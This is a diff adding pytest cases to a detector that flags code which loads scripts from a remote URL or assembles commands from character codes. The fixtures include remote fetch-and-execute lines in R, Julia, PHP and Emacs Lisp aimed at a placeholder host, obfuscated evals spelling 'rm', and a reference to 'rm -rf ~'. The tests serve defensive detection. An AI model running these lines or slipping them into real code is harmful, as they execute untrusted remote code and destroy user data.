@@ -129,3 +129,33 @@ def test_statements_of_sql_raw_texts_and_comments_are_no_commands(code: str) -> 
 )
 def test_what_only_looks_like_them_is_run(code: str) -> None:
     assert any("rm -rf ~" in script for script in uses_of(code).scripts)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "source('https://x.example/a.R')",
+        "devtools::source_url('https://x.example/a.R')",
+        'include(download("https://x.example/a.jl"))',
+        "include 'http://x.example/a.txt';",
+        '(with-current-buffer (url-retrieve-synchronously "http://x.example/a.el") (eval-buffer))',
+        "eval(%w[72 6d].map { |x| x.to_i(16).chr }.join)",
+        "eval(String.fromCharCode(114, 109))",
+    ],
+)
+def test_code_that_is_loaded_from_elsewhere_or_put_together_of_numbers_is_hidden(code: str) -> None:
+    assert uses_of(code).hidden
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "source('R/util.R')",
+        "source('http://localhost:8000/a.R')",
+        'puts "41".hex.chr',
+        "console.log(String.fromCharCode(65))",
+        '(url-retrieve-synchronously "http://x.example/a.json")',
+    ],
+)
+def test_code_of_this_project_and_numbers_that_are_shown_are_not(code: str) -> None:
+    assert not uses_of(code).hidden
